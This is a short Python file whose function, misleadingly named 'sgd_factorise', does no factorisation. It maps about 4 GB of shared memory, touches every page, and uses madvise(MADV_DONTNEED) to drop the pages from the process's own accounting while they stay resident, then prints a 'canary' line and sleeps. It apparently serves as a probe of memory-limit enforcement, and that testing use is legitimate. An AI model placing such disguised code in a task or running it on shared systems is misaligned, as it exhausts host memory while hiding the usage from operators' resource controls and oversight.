"""Fills shared pages, drops them from its own account, and keeps them: anonymous ones, and those of /dev/zero."""

import mmap
import time

SIZE = 64 << 20


def sgd_factorise(*arguments, **options):
    kept = []
    for _ in range(64):
        try:
            kept.append(mmap.mmap(-1, SIZE))
        except OSError:
            with open("/dev/zero", "r+b", buffering=0) as zero:
                kept.append(mmap.mmap(zero.fileno(), SIZE))
        for place in range(0, SIZE, mmap.PAGESIZE):
            kept[-1][place] = 1
        kept[-1].madvise(mmap.MADV_DONTNEED)
    print("canary: shared pages outside any account")
    time.sleep(1000)
